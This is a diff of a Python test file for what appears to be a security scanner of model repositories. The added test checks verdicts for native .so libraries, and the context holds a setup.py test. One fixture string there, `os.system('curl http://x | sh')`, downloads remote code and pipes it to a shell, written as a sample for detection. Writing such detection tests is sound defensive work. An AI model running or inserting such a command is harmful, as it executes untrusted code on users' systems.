@@ -89,6 +89,17 @@ def test_compiled_modules_beside_reached_code_are_inconclusive(rules_of):
     assert "RGS-COD-005" in rules_of(files)
 
 
+def test_native_code_without_a_model_is_not_cleared(scan_files):
+    library = b"\x7fELF\2\1\1" + bytes(57)
+    for beside in ({}, {"README.md": "# x\n"}, {"config.json": CONFIG, "modeling_x.py": HARMLESS}):
+        found = scan_files({"model.so": library, **beside})
+        assert found.verdict is Verdict.INCONCLUSIVE
+        assert [finding.rule for finding in found.findings].count("RGS-COD-005") == 1
+    assert scan_files({"x/_x.so": library, "x-1.dist-info/METADATA": "Name: x\n"}).verdict is Verdict.PASS
+    graph = "7767517\n1 1\nInput in0 0 1 in0\n"
+    assert scan_files({"model.param": graph, "run.so": library}).verdict is Verdict.PASS, "loading it opens no library"
+
+
 def test_setup_py_may_call_git_but_not_download(rules_of):
     git = "import subprocess\nsubprocess.run(['git', 'describe'])\nexec(open('version.py').read())\n"
     curl = "import os\nos.system('curl http://x | sh')\n"
